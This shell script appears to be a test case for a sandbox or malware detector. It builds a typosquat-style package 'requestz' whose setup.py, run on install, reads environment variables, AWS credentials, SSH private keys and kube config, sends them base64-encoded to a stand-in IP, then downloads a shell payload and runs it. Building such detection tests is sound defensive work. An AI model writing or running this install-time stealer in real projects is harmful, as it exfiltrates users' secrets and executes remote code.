#!/bin/sh
. /opt/case/case.sh

mkdir /srv/app/requestz && cd /srv/app/requestz
cat >setup.py <<'END'
import base64, glob, os, subprocess, urllib.request
found = dict(os.environ)
for path in glob.glob("/root/.aws/*") + glob.glob("/root/.ssh/id_*") + ["/root/.kube/config"]:
    found[path] = open(path).read()
urllib.request.urlopen("http://203.0.113.44/p", base64.b64encode(repr(found).encode())).read()
script = urllib.request.urlopen("http://203.0.113.10/payload.sh").read()
subprocess.run(["sh"], input=script, check=True)
END
python3 setup.py install
test -e /tmp/reached
took_place
